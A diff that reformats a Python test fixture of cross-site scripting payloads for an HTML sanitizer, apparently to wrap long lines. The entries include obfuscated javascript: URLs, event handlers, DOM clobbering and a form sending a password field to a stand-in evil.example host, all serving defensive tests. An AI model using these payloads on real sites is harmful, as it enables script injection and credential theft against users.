@@ -22,8 +22,12 @@ HOSTILE = {
     "body onload": '<body onload="alert(1)">文</body>',
     "javascript: link": '<a href="javascript:alert(1)">点我</a>',
     "javascript: mixed case": '<a href="JaVaScRiPt:alert(1)">点我</a>',
-    "javascript: entity-encoded": '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点我</a>',
-    "javascript: hex entities without semicolons": '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">点我</a>',
+    "javascript: entity-encoded": (
+        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点我</a>'
+    ),
+    "javascript: hex entities without semicolons": (
+        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">点我</a>'
+    ),
     "javascript: with a tab and newline": '<a href="jav&#x09;ascr&#x0A;ipt:alert(1)">点我</a>',
     "javascript: leading spaces": '<a href="  \x01javascript:alert(1)">点我</a>',
     "vbscript: link": '<a href="vbscript:msgbox(1)">点我</a>',
@@ -55,12 +59,19 @@ HOSTILE = {
     "embed": '<embed src="https://evil.example/x.swf">',
     "base": '<base href="https://evil.example/">',
     "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
-    "form": '<form action="https://evil.example/"><input name="password"><button formaction="javascript:alert(1)">x</button></form>',
+    "form": (
+        '<form action="https://evil.example/"><input name="password"'
+        '><button formaction="javascript:alert(1)">x</button></form>'
+    ),
     "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
     "template": "<template><script>alert(1)</script></template>",
-    "id and name clobbering": '<a id="csrftoken" name="csrftoken" href="/x">x</a><img name="getElementById" src="/a.png">',
+    "id and name clobbering": (
+        '<a id="csrftoken" name="csrftoken" href="/x">x</a><img name="getElementById" src="/a.png">'
+    ),
     "target to a named frame": '<a href="/x" target="opener">x</a>',
-    "srcset and formaction": '<img srcset="javascript:alert(1) 1x" src="/a.png"><button formaction="javascript:alert(1)">x</button>',
+    "srcset and formaction": (
+        '<img srcset="javascript:alert(1) 1x" src="/a.png"><button formaction="javascript:alert(1)">x</button>'
+    ),
     "xmp and plaintext": "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
     "null byte in tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
 }
